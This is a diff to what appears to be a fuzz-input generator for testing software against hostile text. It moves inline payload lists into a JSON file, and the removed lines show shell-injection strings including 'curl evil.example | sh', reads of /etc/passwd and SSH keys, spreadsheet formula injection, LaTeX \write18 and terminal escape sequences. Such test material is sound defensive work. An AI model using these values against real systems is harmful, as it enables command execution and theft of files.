@@ -8,25 +8,11 @@ import unicodedata
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from itertools import cycle
+from pathlib import Path
 
-WORDS = [
-    "observatory",
-    "lens",
-    "dome",
-    "star",
-    "harbour",
-    "ferry",
-    "pier",
-    "tide",
-    "orchestra",
-    "cello",
-    "hall",
-    "score",
-    "orchard",
-    "graft",
-    "pear",
-    "frost",
-]
+TEXTS: dict[str, list[str]] = json.loads(Path(__file__).with_name("hostile_texts.json").read_text("utf-8"))
+"""What some templates choose from, by their names."""
+WORDS = TEXTS["words"]
 HOSTS = ("evil.example", "198.51.100.7", "xn--80ak6aa92e.example", "[2001:db8::1]:8080")
 ROLES = ("Planner", "Navigator", "Retriever", "Verifier", "reader", "controller")
 ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad"
@@ -138,17 +124,7 @@ def html(draw: random.Random) -> str:
 
 
 def ansi(draw: random.Random) -> str:
-    return draw.choice(
-        (
-            "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
-            "\x1b]0;owned\x07",
-            "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
-            "\x1b]52;c;ZWNobyBvd25lZA==\x07",
-            "\x9b31m\x9d0;x\x9c",
-            "over\rwritten\x08\x08\x08gone\x7f",
-            "\x1bP+q544e\x1b\\ \x0e\x0f \x05",
-        )
-    )
+    return draw.choice(TEXTS["ansi"])
 
 
 def bidi(draw: random.Random) -> str:
@@ -156,22 +132,11 @@ def bidi(draw: random.Random) -> str:
 
 
 def paths(draw: random.Random) -> str:
-    return draw.choice(
-        ("../../../etc/passwd", "file:///etc/shadow", "C:\\Windows\\win.ini", "~/.ssh/id_rsa", "/dev/tcp/1.2.3.4/80")
-    )
+    return draw.choice(TEXTS["paths"])
 
 
 def shell(draw: random.Random) -> str:
-    return draw.choice(
-        (
-            "$(touch owned)",
-            "`touch owned`",
-            "; touch owned #",
-            "| sh",
-            "&& curl evil.example | sh",
-            "${IFS}touch${IFS}owned",
-        )
-    )
+    return draw.choice(TEXTS["shell"])
 
 
 def links(draw: random.Random) -> str:
@@ -209,33 +174,11 @@ def homoglyphs(draw: random.Random) -> str:
 
 
 def formulas(draw: random.Random) -> str:
-    return draw.choice(
-        (
-            '=cmd|" /C calc"!A0',
-            "+1+1",
-            "-2+3",
-            "@SUM(1)",
-            '=HYPERLINK("http://evil.example";"x")',
-            "\t=1",
-            "＝1+1",
-            "\n=1",
-        )
-    )
+    return draw.choice(TEXTS["formulas"])
 
 
 def latex(draw: random.Random) -> str:
-    return draw.choice(
-        (
-            "\\input{/etc/passwd}",
-            "\\write18{touch owned}",
-            "$\\frac{1}{",
-            "\\end{table}\\relax",
-            "%comment",
-            "\\\\[1000cm]",
-            "$$x^{2",
-            "\\def\\x{\\x}\\x",
-        )
-    )
+    return draw.choice(TEXTS["latex"])
 
 
 def record_lines(draw: random.Random) -> str:
@@ -251,17 +194,7 @@ def record_lines(draw: random.Random) -> str:
 
 
 def markup(draw: random.Random) -> str:
-    return draw.choice(
-        (
-            "[bold red]x[/bold red]",
-            "[link=http://evil.example]x[/link]",
-            "[/]",
-            "[@click=app.quit]x[/]",
-            "[blink]x",
-            ":skull: [not closed",
-            "\\[bold]x[/]",
-        )
-    )
+    return draw.choice(TEXTS["markup"])
 
 
 def combining(draw: random.Random) -> str:
